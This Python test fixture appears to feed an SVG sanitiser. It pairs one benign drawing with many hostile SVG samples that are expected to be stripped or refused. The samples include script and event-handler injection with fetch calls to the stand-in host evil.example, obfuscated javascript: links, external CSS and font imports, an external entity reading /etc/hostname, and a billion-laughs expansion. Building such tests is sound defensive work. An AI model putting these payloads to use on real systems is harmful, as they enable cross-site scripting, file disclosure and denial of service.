"""SVG drawings for tests: a good one, and what others hide in theirs."""

HEAD = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(inside: str = "", attributes: str = 'viewBox="0 0 400 300"') -> bytes:
    return f"<svg {HEAD} {attributes}>{inside}</svg>".encode()


GOOD = svg(
    """
    <title>Reefs by depth</title>
    <defs>
      <linearGradient id="sea"><stop offset="0" stop-color="#0af"/></linearGradient>
      <linearGradient id="deep" xlink:href="#sea"/>
      <clipPath id="window"><circle cx="9" cy="9" r="9"/></clipPath>
    </defs>
    <style>.b > .c { fill: url(#sea) } @font-face { src: url(data:font/woff2;base64,AA//) }</style>
    <g transform="scale(2)" clip-path="url(#window)"><path d="M0 0h9v9z" fill="url(#deep)"/></g>
    <text x="1" y="2">Ten<tspan>der</tspan><tspan dy="3">ly &amp; “deep”</tspan></text>
    <image href="data:image/png;base64,AAAA" width="1" height="1"/>
    <use xlink:href="#window"/>
    """
)

_MARK = "evil.example"

# Each names `evil.example` where it hides something.
HOSTILE = {
    "script": svg(f"<script>fetch('//{_MARK}')</script>"),
    "script from elsewhere": svg(f'<script href="https://{_MARK}/a.js"/>'),
    "script with a prefix": (
        f'<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9">'
        f"<s:script>{_MARK}</s:script></s:svg>"
    ).encode(),
    "script of html": svg(f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{_MARK}</h:script>'),
    "onload": svg("", f'viewBox="0 0 9 9" onload="{_MARK}"'),
    "onclick": svg(f'<rect ONCLICK="{_MARK}" onclick="{_MARK}"/>'),
    "foreign object": svg(
        f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//{_MARK}"/></foreignObject>'
    ),
    "link": svg(f'<a xlink:href="javascript:{_MARK}"><text>x</text></a>'),
    "link in odd spelling": svg(f'<a href=" jAva&#9;script:{_MARK}"><text>x</text></a>'),
    "image": svg(f'<image xlink:href="https://{_MARK}/a.png"/><image href="/{_MARK}.png"/>'),
    "image of html": svg(f'<image href="data:text/html,{_MARK}"/>'),
    "image of svg": svg(f'<image href="data:image/svg+xml,{_MARK}"/>'),
    "use": svg(f'<use href="https://{_MARK}/a.svg#b"/><use href="{_MARK}.svg#b"/>'),
    "import": svg(f'<style>@import "https://{_MARK}/a;b.css"; @import url(//{_MARK}/c)</style>'),
    "import escaped": svg(f'<style>@\\69mport "//{_MARK}/a.css";</style>'),
    "import in character data": svg(f"<style><![CDATA[@import '//{_MARK}';]]></style>"),
    "url in style": svg(f"<style>rect {{ fill: URL( '//{_MARK}/a' ) }}</style>"),
    "url in an attribute": svg(f'<rect style="fill:url(//{_MARK}/a)" fill="url(//{_MARK}/b#c)"/>'),
    "image set": svg(f'<style>svg {{ background: image-set("//{_MARK}/a.png" 1x) }}</style>'),
    "image set in an attribute": svg(f"<rect style=\"mask:image-set('//{_MARK}/a' 1x)\"/>"),
    "font": svg(f"<style>@font-face {{ src: url(https://{_MARK}/a.woff2) }}</style>"),
    "set": svg(f'<a><set attributeName="href" to="javascript:{_MARK}"/></a>'),
    "animate": svg(f'<a><animate attributeName="xlink:href" values="javascript:{_MARK}"/></a>'),
    "handler": svg(f'<handler type="x" xmlns:e="e" e:event="load">{_MARK}</handler>'),
    "style sheet": f'<?xml-stylesheet href="https://{_MARK}/a.css"?>'.encode() + svg(),
    "xinclude": svg(
        f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="https://{_MARK}/a"/>'
    ),
    "comment": svg(f"<!-- --!><script>{_MARK}</script> -->"),
    "character data": svg(f"<![CDATA[<script>{_MARK}</script>]]>"),
    "utf-16": svg(f"<script>{_MARK}</script>").decode().encode("utf-16"),
    "document type": f'<!DOCTYPE svg SYSTEM "https://{_MARK}/a.dtd">'.encode() + svg(),
}

_LAUGHS = "".join(f"<!ENTITY l{n + 1} '{f'&l{n};' * 10}'>" for n in range(9))


def _use(number: int) -> str:
    return f'<use href="#g{number}"/>'


# Not to be read at all, by what is said about each.
REFUSED = {
    "entities": (f"<!DOCTYPE svg [<!ENTITY l0 'ha'>{_LAUGHS}]>".encode() + svg("&l9;"), "entities"),
    "external entity": (
        b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/hostname">]>' + svg("<text>&a;</text>"),
        "entities",
    ),
    "defaults of attributes": (
        b"<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'x'>]>" + svg(),
        "entities",
    ),
    "depth": (svg("<g>" * 9000 + "</g>" * 9000), "nests"),
    "many parts": (svg("<g/>" * 60_000), "too many parts"),
    "parts that repeat": (
        svg('<g id="g0"/>' + "".join(f'<g id="g{n + 1}">{_use(n) * 9}</g>' for n in range(20))),
        "too many parts",
    ),
    "a part within itself": (svg('<g id="a"><use href="#a"/></g>'), "too many parts"),
    "large": (svg("<!--" + "x" * 5 * 1024 * 1024 + "-->"), "5 MB"),
    "utf-7": (b'<?xml version="1.0" encoding="utf-7"?>' + svg("+ADw-script+AD4-"), "be read"),
    "unknown encoding": (b'<?xml version="1.0" encoding="x-y"?>' + svg(), "be read"),
    "compressed": (b"\x1f\x8b\x08\x00", "be read"),
    "empty": (b"", "be read"),
    "html": (b"<html><body>" + svg() + b"</body></html>", "no SVG"),
    "no name space": (b'<svg viewBox="0 0 9 9"/>', "no SVG"),
    "another name space": (
        b'<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9"/>',
        "no SVG",
    ),
    "no size": (svg("", ""), "neither its width"),
    "no size but a share": (svg("", 'width="100%" height="auto"'), "neither its width"),
    "empty view box": (svg("", 'viewBox="0 0 0 9"'), "neither its width"),
    "endless view box": (svg("", 'viewBox="0 0 inf 1e999"'), "neither its width"),
}
